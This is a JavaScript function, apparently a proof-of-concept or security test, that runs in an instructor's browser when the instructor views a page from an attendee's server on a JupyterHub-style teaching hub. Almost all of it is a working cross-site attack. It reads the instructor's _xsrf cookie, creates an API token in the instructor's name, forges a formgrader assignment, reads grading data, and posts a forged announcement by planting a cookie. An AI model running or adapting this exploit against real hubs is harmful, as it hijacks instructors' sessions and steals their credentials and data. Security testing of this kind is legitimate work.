// What a page of an attendee's server tries in the browser of an instructor who looks at it: ([the hub's address, the instructor's name]) => {what: what it got}
async ([hub, name]) => {
    const got = {}, pause = (ms) => new Promise((resolve) => { setTimeout(resolve, ms); });
    const attempt = async (what, act) => { got[what] = await act().catch(() => null) || null; };
    const as = async (page, path, method) => {  // from a page of the instructor's own, with what that page may do
        const other = window.open(hub + page);
        await pause(500);
        for (let i = 0; i < 100 && (other.location.href === "about:blank" || other.document.readyState !== "complete"); i++) await pause(100);
        const token = other.document.cookie.match(/_xsrf=([^;]+)/)[1];
        const headers = {"X-XSRFToken": token, "Content-Type": "application/json"};
        const answer = await other.fetch(hub + path, {method, headers, body: method === "GET" ? undefined : "{}", credentials: "include"});
        return answer.ok && (await answer.text()).slice(0, 100);
    };
    await attempt("an assignment", () => as("services/formgrader/formgrader/manage_assignments", "services/formgrader/formgrader/api/assignment/forged", "PUT"));
    await attempt("a token of the instructor's", () => as("hub/home", `hub/api/users/${name}/tokens`, "POST"));
    await attempt("what formgrader knows", async () => {
        const answer = await fetch(hub + "services/formgrader/formgrader/api/assignments", {credentials: "include"});
        return answer.ok && answer.text();
    });
    document.cookie = "_xsrf=61626364; path=/services/board/";  // cookies know no ports
    await attempt("an answer to a form", async () => {  // nobody asks the server whether a form may be sent
        const body = new URLSearchParams({_xsrf: "61626364", text: "forged"});
        await fetch(hub + "services/board/announcement", {method: "POST", mode: "no-cors", credentials: "include", body});
    });
    return got;
}
